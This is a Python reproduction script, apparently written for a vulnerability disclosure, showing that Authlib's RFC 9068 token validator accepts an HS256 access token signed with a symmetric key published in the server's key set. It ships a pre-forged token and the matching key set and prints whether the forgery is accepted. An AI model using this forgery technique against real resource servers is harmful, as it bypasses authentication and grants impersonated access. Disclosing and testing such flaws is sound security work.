#!/usr/bin/env python3
"""Authlib's RFC 9068 resource-server validator (authlib.oauth2.rfc9068.JWTBearerTokenValidator)
accepts an HS256 access token signed with a symmetric secret that sits in the authorization
server's published key set. The resource server expects ES256 (its key set holds the ES256 key
"primary" and, beside it, an oct key "hmac" whose k is public to anyone who fetches the set), but
the validator takes no algorithm list: authenticate_token calls joserfc's jwt.decode(token, key)
with joserfc's default algorithms (HS256, RS256, ES256), so anyone who reads the key set can mint
tokens. The generic joserfc and authlib.jose APIs, pinned to ES256, refuse this token.

RFC 8725 §3.1: "Libraries MUST enable the caller to specify a supported set of algorithms and
MUST NOT use any other algorithms when performing cryptographic operations"; RFC 9068 §4: "The
resource server MUST validate the signature of all incoming JWT access tokens according to
[RFC7515] using the algorithm specified in the JWT "alg" Header Parameter … The resource server
MUST use the keys provided by the authorization server."

Reproduces: confusion/mixed-oct-hs256 (forgery)

(The same root cause accepts confusion/mixed-oct-only, mixed-oct-first, mixed-oct-duplicate-kid,
mixed-oct-alg-hs256, mixed-oct-use-sig, mixed-oct-alg-use-key-ops, mixed-oct-k-jwk-json and
mixed-oct-k-x-coordinate. JWTBearerTokenValidator has no algorithm setting: its __init__ takes
issuer and resource_server, and authenticate_token builds the decode call itself.)

Run (after scripts/setup.sh): adapters/authlib-rfc9068/.venv/bin/python adapters/authlib-rfc9068/repro.py
Configured as adapters/authlib-rfc9068/adapter.py configures it; needs only Authlib (with joserfc).
"""

import sys

from authlib.oauth2.base import OAuth2Error
from authlib.oauth2.rfc9068 import JWTBearerTokenValidator
from joserfc.jwk import KeySet

VECTOR = "confusion/mixed-oct-hs256"
TOKEN = (
    "eyJhbGciOiJIUzI1NiIsImtpZCI6ImhtYWMiLCJ0eXAiOiJhdCtqd3QifQ"
    ".eyJhdWQiOiJodHRwczovL2FwaS5leGFtcGxlIiwiY2xpZW50X2lkIjoiY2xpZW50LTEiLCJleHAiOjQxMDI0NDQ4MDAsImlhdCI6"
    "MTAwMDAwMDAwMCwiaXNzIjoiaHR0cHM6Ly9pc3N1ZXIuZXhhbXBsZSIsImp0aSI6Imp0aS0wMDAxIiwic3ViIjoiMDFIWlkySjNL"
    "NE01TjZQN1E4UjlTMFQxVjIifQ"
    ".jr3ciDThtOL6vGbGca8Hp57W_1XzivMkR0QzlUiEKkI"
)
JWKS = {"keys": [{"alg": "ES256", "crv": "P-256", "kid": "primary", "kty": "EC", "use": "sig",
                   "x": "Og9O0oqYw6X3WZLhErumXMqF78CgL9XjmicCJocZZuE",
                   "y": "opzBMqY9ArX-OUzNW0byqx80JQiwyIPRTydjBdHDLEI"},
                  {"k": "YSBzeW1tZXRyaWMgc2VjcmV0IHB1Ymxpc2hlZCBpbiB0aGUga2V5IHNldA", "kid": "hmac", "kty": "oct"}]}
ISSUER, RESOURCE_SERVER = "https://issuer.example", "https://api.example"


class Validator(JWTBearerTokenValidator):
    def get_jwks(self):
        return KeySet.import_key_set(JWKS)


def main():
    validator = Validator(issuer=ISSUER, resource_server=RESOURCE_SERVER)
    try:
        token = validator.authenticate_token(TOKEN)
        validator.validate_token(token, None, None)
    except OAuth2Error as error:
        print(f"NOT REPRODUCED {VECTOR}: the validator rejected the token: {error!r} (from {error.__cause__!r})")
        return 1
    print(f"REPRODUCED {VECTOR}: JWTBearerTokenValidator accepted an {token.header.get('alg')} token signed with the "
          f"oct key published in the key set (the resource server expects ES256): sub = {token.get('sub')!r}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
